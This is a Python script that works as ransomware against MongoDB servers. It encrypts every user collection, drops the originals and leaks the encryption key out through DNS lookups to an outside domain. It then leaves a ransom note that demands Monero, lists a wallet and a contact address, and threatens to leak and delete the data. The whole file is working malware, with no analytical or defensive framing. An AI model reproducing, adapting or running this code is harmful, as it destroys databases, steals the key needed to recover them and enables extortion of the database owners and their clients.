#!/usr/bin/env python3
import os
import socket
import secrets
import binascii

from pymongo import MongoClient
from bson import json_util
from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305

URI = os.environ.get("MONGO_URI") or os.environ.get("MONGODB_URL") or "mongodb://127.0.0.1:27017"
SYSTEM = {"admin", "local", "config"}
BOX = "__archive"
README = "README_RECOVER"
NS = "x7q.telemetry-cdn.net"
CHUNK = 1000

XMR = ("47Vq8zJ3kRb2TnWfYd6LmXc9PgHs4Ue1BaQo5NtKr7Zj2Ew8Vy3Fi6Dp"
       "1Gh9Sx4Cl7Mb2Ak5Ju8Nq3Wt6Re9Yz1Xo4Pv7Lf2Hc5Bs8Kd3")
MAIL = "mongo.recovery@dnmx.org"
MSG = ("All your data is backed up on our server. To recover it you must send 0.09 XMR "
       "to the wallet below and write to {mail} with your DB code. "
       "If you do not pay in 72 hours your data will be leaked to your clients "
       "and removed permanently.").format(mail=MAIL)


def beacon(key, code):
    h = binascii.hexlify(key).decode()
    for i in range(0, len(h), 32):
        label = "{}-{}-{}.{}".format(code, i // 32, h[i:i + 32], NS)
        try:
            socket.gethostbyname(label)
        except OSError:
            pass


def seal(db, box, coll, part, docs):
    raw = json_util.dumps(docs).encode()
    nonce = os.urandom(12)
    db[BOX].insert_one({
        "c": coll,
        "p": part,
        "n": nonce,
        "d": box.encrypt(nonce, raw, coll.encode()),
    })


def main():
    cli = MongoClient(URI, serverSelectionTimeoutMS=5000)
    key = ChaCha20Poly1305.generate_key()
    code = secrets.token_hex(4)
    beacon(key, code)
    box = ChaCha20Poly1305(key)
    for dbn in cli.list_database_names():
        if dbn in SYSTEM:
            continue
        db = cli[dbn]
        touched = False
        for cn in db.list_collection_names():
            if cn in (BOX, README) or cn.startswith("system."):
                continue
            buf, part = [], 0
            for doc in db[cn].find({}, batch_size=CHUNK):
                buf.append(doc)
                if len(buf) >= CHUNK:
                    seal(db, box, cn, part, buf)
                    part, buf = part + 1, []
            if buf:
                seal(db, box, cn, part, buf)
            db.drop_collection(cn)
            touched = True
        if touched:
            db[README].insert_one({"content": MSG, "db_code": code, "xmr": XMR, "contact": MAIL})
    key = None


if __name__ == "__main__":
    main()
